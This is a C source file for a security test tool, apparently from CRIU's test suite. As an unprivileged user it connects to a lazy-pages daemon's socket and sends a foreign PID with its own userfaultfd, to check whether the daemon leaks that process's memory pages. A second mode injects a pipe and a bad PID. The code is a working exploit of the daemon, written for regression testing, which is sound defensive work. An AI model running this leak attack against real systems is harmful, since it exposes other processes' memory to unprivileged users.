/*
 * lps-attack: a hostile client of a lazy-pages daemon's lazy-pages.socket, for
 * tests/security/lpsock.sh (run it as an unprivileged user, e.g. with setpriv).
 *
 *   lps-attack leak SOCK PID ADDR PAGES [SECONDS]
 *	Map PAGES anonymous pages at ADDR, register them with a userfaultfd of our own,
 *	send PID (a task of the images, not ours) with that uffd and the restore-finished
 *	marker, then watch the pages for SECONDS (default 5) without touching them. Any
 *	page that arrives holds the images' memory: the attack worked.
 *   lps-attack inject SOCK PID
 *	Connect, send PID with a pipe (not a uffd) and then a bad pid (0), as an intruder
 *	that connects after criu hung up.
 *
 * Exit status: 0 the attack got through (leak: data arrived; inject: connected and
 * sent), 1 the daemon gave nothing (leak), 3 the connection was refused, 2 usage or
 * setup error. One line on stdout says what happened.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif

#define PAGE 4096UL
#define RSTF 0x52535446u

static int lps_connect(const char *path)
{
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || strlen(path) >= sizeof(sa.sun_path))
		return -1;
	strcpy(sa.sun_path, path);
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa))) {
		printf("connect %s as uid %d: %s\n", path, (int)getuid(), strerror(errno));
		close(fd);
		return -1;
	}
	return fd;
}

static int send_fd(int sock, int fd)
{
	char byte = 0;
	struct iovec iov = {.iov_base = &byte, .iov_len = 1};
	union {
		char buf[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} u;
	struct msghdr mh = {.msg_iov = &iov,
			    .msg_iovlen = 1,
			    .msg_control = u.buf,
			    .msg_controllen = sizeof(u.buf)};
	struct cmsghdr *c = CMSG_FIRSTHDR(&mh);

	memset(u.buf, 0, sizeof(u.buf));
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &fd, sizeof(int));
	return sendmsg(sock, &mh, MSG_NOSIGNAL) == 1 ? 0 : -1;
}

static int send_int(int sock, uint32_t v)
{
	return send(sock, &v, sizeof(v), MSG_NOSIGNAL) == sizeof(v) ? 0 : -1;
}

/* A uffd an unprivileged user may open (vm.unprivileged_userfaultfd=0: user faults only). */
static int own_uffd(void)
{
	struct uffdio_api api = {.api = UFFD_API};
	int fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK | UFFD_USER_MODE_ONLY);

	if (fd < 0)
		fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
	if (fd < 0 || ioctl(fd, UFFDIO_API, &api)) {
		printf("userfaultfd: %s\n", strerror(errno));
		return -1;
	}
	return fd;
}

static int map_registered(int uffd, uint64_t addr, uint64_t pages)
{
	void *p = mmap((void *)addr, pages * PAGE, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	struct uffdio_register reg = {.range = {addr, pages * PAGE},
				      .mode = UFFDIO_REGISTER_MODE_MISSING};

	if (p != (void *)addr) {
		printf("mmap 0x%llx: %s\n", (unsigned long long)addr,
		       p == MAP_FAILED ? strerror(errno) : "placed elsewhere");
		return -1;
	}
	if (ioctl(uffd, UFFDIO_REGISTER, &reg)) {
		printf("UFFDIO_REGISTER: %s\n", strerror(errno));
		return -1;
	}
	return 0;
}

/* Pages of [addr, +pages) present in our memory (read from pagemap: no touch, no fault). */
static uint64_t present_pages(uint64_t addr, uint64_t pages, uint64_t *nonzero)
{
	uint64_t n = 0;
	int fd = open("/proc/self/pagemap", O_RDONLY | O_CLOEXEC);

	*nonzero = 0;
	if (fd < 0)
		return 0;
	for (uint64_t i = 0; i < pages; i++) {
		uint64_t ent = 0, va = addr + i * PAGE;
		if (pread(fd, &ent, sizeof(ent), (off_t)(va / PAGE * sizeof(ent))) != sizeof(ent))
			break;
		if (!(ent >> 63 & 1))
			continue;
		n++;
		const uint8_t *b = (const uint8_t *)va;
		for (unsigned k = 0; k < PAGE; k++)
			if (b[k]) {
				(*nonzero)++;
				break;
			}
	}
	close(fd);
	return n;
}

static int do_leak(const char *sock, int pid, uint64_t addr, uint64_t pages, int secs)
{
	int uffd = own_uffd();

	if (uffd < 0 || map_registered(uffd, addr, pages))
		return 2;
	int s = lps_connect(sock);
	if (s < 0)
		return 3;
	bool sent = !send_int(s, (uint32_t)pid) && !send_fd(s, uffd) && !send_int(s, RSTF);
	if (!sent)
		printf("the daemon closed the connection while we sent (%s)\n", strerror(errno));
	uint64_t got = 0, nonzero = 0;
	for (int i = 0; i < secs * 10; i++) {
		got = present_pages(addr, pages, &nonzero);
		if (nonzero)
			break;
		usleep(100000);
	}
	if (nonzero) {
		printf("LEAK: %llu of %llu pages of pid %d's memory arrived in our uffd (uid %d)\n",
		       (unsigned long long)nonzero, (unsigned long long)pages, pid, (int)getuid());
		return 0;
	}
	printf("no data for pid %d after %d s (%llu pages present, all zero)\n", pid, secs,
	       (unsigned long long)got);
	return 1;
}

static int do_inject(const char *sock, int pid)
{
	int p[2];

	if (pipe2(p, O_CLOEXEC))
		return 2;
	int s = lps_connect(sock);
	if (s < 0)
		return 3;
	if (send_int(s, (uint32_t)pid) || send_fd(s, p[0]) || send_int(s, 0)) {
		printf("the daemon closed the connection while we sent (%s)\n", strerror(errno));
		return 1;
	}
	printf("connected as uid %d and sent pid %d with a pipe, then pid 0\n", (int)getuid(), pid);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 6 && !strcmp(argv[1], "leak"))
		return do_leak(argv[2], atoi(argv[3]), strtoull(argv[4], NULL, 0),
			       strtoull(argv[5], NULL, 0), argc > 6 ? atoi(argv[6]) : 5);
	if (argc == 4 && !strcmp(argv[1], "inject"))
		return do_inject(argv[2], atoi(argv[3]));
	fprintf(stderr, "usage: lps-attack leak SOCK PID ADDR PAGES [SECONDS]\n"
			"       lps-attack inject SOCK PID\n");
	return 2;
}
